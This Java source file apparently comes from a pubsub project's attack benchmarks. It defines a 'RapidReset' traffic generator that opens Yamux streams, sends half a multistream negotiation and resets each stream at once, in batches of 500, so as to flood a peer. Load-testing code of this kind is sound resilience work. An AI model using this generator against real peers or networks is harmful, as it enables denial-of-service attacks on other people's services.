package org.freshet.pubsub.benchmarks.attack;

import io.netty.buffer.ByteBuf;
import java.nio.charset.StandardCharsets;

/** Streams, each opened, half negotiated and reset, as fast as the link takes them. */
final class RapidReset implements Ammunition {
  private static final int STREAMS_A_PIECE = 500;
  private static final byte[] HALF_A_NEGOTIATION =
      "\u0013/multistream/1.0.0\n".getBytes(StandardCharsets.ISO_8859_1);

  private int next = 1;

  @Override
  public int next(ByteBuf out, int units) {
    int streams = Math.min(units, STREAMS_A_PIECE);
    for (int i = 0; i < streams; i++) {
      Yamux.header(out, Yamux.DATA, Yamux.SYN, next, HALF_A_NEGOTIATION.length);
      out.writeBytes(HALF_A_NEGOTIATION);
      Yamux.header(out, Yamux.WINDOW_UPDATE, Yamux.RST, next, 0);
      next += 2;
    }
    return streams;
  }

  @Override
  public double unitsPerSecond() {
    return 0;
  }
}
